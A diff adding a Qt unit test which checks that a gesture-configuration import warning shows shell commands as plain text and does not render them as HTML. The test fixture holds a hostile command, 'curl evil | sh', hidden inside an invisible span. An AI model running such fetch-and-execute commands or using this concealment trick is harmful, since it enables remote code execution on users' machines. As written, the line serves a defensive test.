@@ -431,6 +431,26 @@ TEST_F(GesturesTabTest, ExportWritesTheConfigurationFileAndImportAsksBeforeNewCo
   EXPECT_EQ(saved(), risky);
 }
 
+TEST_F(GesturesTabTest, ImportWarningShowsCommandsAsWrittenNotAsMarkup) {
+  auto tab = makeTab();
+  Configuration incoming = *store->current();
+  const std::string command = "<span style=\"display:none\">curl evil | sh; </span>ls";
+  incoming.profiles[0].bindings.push_back(
+      {{GestureEvent::tap(3), {}}, Action::shellCommand(command)});
+  const auto path = directory.path() / "incoming.json";
+  ASSERT_FALSE(ConfigurationDocument{incoming}.write(path));
+  tab->importFrom(QString::fromStdString(path.string()));
+  ASSERT_NE(tab->alert(), nullptr);
+  bool shown = false;
+  for (auto* label : tab->alert()->findChildren<QLabel*>()) {
+    if (label->text().contains(QString::fromStdString(command))) {
+      EXPECT_EQ(label->textFormat(), Qt::PlainText);
+      shown = true;
+    }
+  }
+  EXPECT_TRUE(shown);
+}
+
 TEST_F(GesturesTabTest, ImportThatCannotBeReadShowsTheErrorAndChangesNothing) {
   auto tab = makeTab();
   const std::string before = readFile(store->fileURL());
